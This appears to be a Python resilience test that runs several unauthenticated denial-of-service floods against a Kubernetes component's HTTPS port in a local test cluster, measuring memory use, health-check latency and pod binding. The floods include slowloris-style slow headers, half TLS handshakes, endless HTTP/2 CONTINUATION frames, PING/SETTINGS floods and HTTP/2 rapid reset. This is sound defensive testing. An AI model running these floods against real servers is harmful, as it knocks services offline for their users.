#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Further attacks on the HTTPS port by clients without credentials, one after the other.

For each flood: peak memory, how long /healthz takes meanwhile and whether it is answered at all,
and how long a pod waits for its node.

    tests/attack/http_floods.py [--subject kube-scheduler] [--short] [--only NAME]
"""

import ssl
import struct
import threading
import time

import serving
from serving import (CONTINUATION, H2, PING, RST_STREAM, SETTINGS, Cluster, bind_pod, frame,
                     head, literal, make_node, mib, say)

FLOODS = {}


def flood(function):
    """A function that attacks with connections until stopped; several threads run it."""
    FLOODS[function.__name__.replace("_", " ")] = function
    return function


def keep(conns, ends):
    """Holds connections until the end, and replaces those that the server has closed."""
    while not ends.is_set():
        for conn in list(conns):
            if not conn.take(0):
                conn.close()
                conns.remove(conn)
                return
        ends.wait(0.05)


@flood
def slow_heads(p, ends):
    """A byte of a request now and then, on hundreds of connections."""
    socks = []
    while not ends.is_set():
        while len(socks) < 300 and not ends.is_set():
            try:
                s = serving.tls(p)
                s.sendall(b"GET /healthz HTTP/1.1\r\nHost: a\r\nX: ")
                socks.append(s)
            except OSError:
                break
        alive = []
        for s in socks:
            try:
                s.sendall(b"x")
                alive.append(s)
            except OSError:
                s.close()
        socks = alive
        ends.wait(0.2)
    for s in socks:
        s.close()


@flood
def half_handshakes(p, ends):
    """A ClientHello and nothing else: the server has signed its answer in vain."""
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    hello = serving.context("h2").wrap_bio(into, out)
    try:
        hello.do_handshake()
    except ssl.SSLWantReadError:
        pass
    record, socks = out.read(), []
    while not ends.is_set():
        try:
            s = serving.tcp(p, timeout=1)
            s.sendall(record)
            socks.append(s)
        except OSError:
            ends.wait(0.01)
        if len(socks) > 1000:
            socks.pop(0).close()
    for s in socks:
        s.close()


@flood
def handshakes(p, ends):
    """TLS connections that are closed as soon as they are established."""
    while not ends.is_set():
        try:
            serving.tls(p).close()
        except OSError:
            pass


@flood
def large_heads_and_no_ear(p, ends):
    """Heads of 60 KiB on all streams, and no window for the answers."""
    no_window = struct.pack(">HI", 4, 0)
    conns = []
    while not ends.is_set():
        try:
            conn = H2(p, no_window)
            conn.take(0.2)
            for i in range(conn.streams_max):
                _, opening = conn.open(head(f"/{i}/" + "a" * 8000, more=[("x", "y" * 6000)]))
                if not conn.send(opening):
                    break
            conns.append(conn)
        except OSError:
            ends.wait(0.05)
        if len(conns) >= 8:
            keep(conns, ends)
    for conn in conns:
        conn.close()


@flood
def endless_head(p, ends):
    """An endless head in CONTINUATION frames."""
    piece = b"".join(literal(f"x{i}", "y" * 1000) for i in range(16))[:16000]
    while not ends.is_set():
        try:
            conn = H2(p)
            _, opening = conn.open(head(), flags=0)
            conn.send(opening)
            while not ends.is_set() and conn.send(frame(CONTINUATION, 0, 1, piece)):
                conn.take(0)
            conn.close()
        except OSError:
            ends.wait(0.01)


@flood
def pings_and_settings(p, ends):
    """Frames that need an answer each, and a client that does not read the answers."""
    batch = (frame(PING, 0, 0, b"01234567") + frame(SETTINGS, 0, 0)) * 500
    while not ends.is_set():
        try:
            conn = H2(p, timeout=1)
            while not ends.is_set() and conn.send(batch):
                pass
            conn.close()
        except OSError:
            ends.wait(0.01)


@flood
def rapid_reset(p, ends):
    """Streams on a path that needs no rights, each reset at once, endlessly."""
    block, cancel = head("/healthz"), struct.pack(">I", 8)
    while not ends.is_set():
        try:
            conn = H2(p, timeout=1)
            while not ends.is_set():
                batch = b""
                for _ in range(200):
                    stream, opening = conn.open(block)
                    batch += opening + frame(RST_STREAM, 0, stream, cancel)
                if not conn.send(batch) or not conn.take(0):
                    break
            conn.close()
        except OSError:
            ends.wait(0.01)


@flood
def pipelined_and_no_ear(p, ends):
    """Pipelined HTTP/1.1 requests, and a client that does not read the answers."""
    batch = b"GET /readyz?verbose HTTP/1.1\r\nHost: a\r\n\r\n" * 500
    socks = []
    while not ends.is_set():
        try:
            s = serving.tls(p, timeout=0.2)
            socks.append(s)
            while not ends.is_set():
                s.sendall(batch)
        except OSError:
            pass
        if len(socks) > 100:
            socks.pop(0).close()
    for s in socks:
        s.close()


def attack(c, p, name, seconds):
    say(name)
    serving.forget_peak(p)
    before, _ = serving.memory(p)
    ends = threading.Event()
    crew = [threading.Thread(target=FLOODS[name], args=(p, ends), daemon=True) for _ in range(4)]
    for t in crew:
        t.start()
    with serving.Probes(p) as probes:
        time.sleep(seconds / 2)
        bound = bind_pod(c, name.replace(" ", "-"), limit=60)
        time.sleep(seconds / 2)
    _, most = serving.memory(p)
    ends.set()
    for t in crew:
        t.join()
    return {f"{name}: memory more at most, MiB": mib(most - before),
            f"{name}: /healthz at most, ms": probes.most_ms(),
            f"{name}: /healthz without an answer": probes.failed,
            f"{name}: a pod is bound, ms": None if bound is None else round(1000 * bound, 1)}


def main():
    given = serving.options(__doc__, seconds=(0.0, "for each; 0: 8, short 2"), only=("", "this flood alone"))
    with Cluster() as c:
        c.create("/api/v1/nodes", make_node("n0"))
        p = serving.start(c, given)
        figures = {}
        for name in FLOODS:
            if given.only in ("", name):
                figures |= attack(c, p, name, given.seconds or (2 if given.short else 8))
        time.sleep(3 if given.short else 15)
        figures["memory afterwards, MiB"] = mib(serving.memory(p)[0])
        figures["alive (1: yes)"] = int(p.running())
    serving.report(given, figures)


if __name__ == "__main__":
    main()
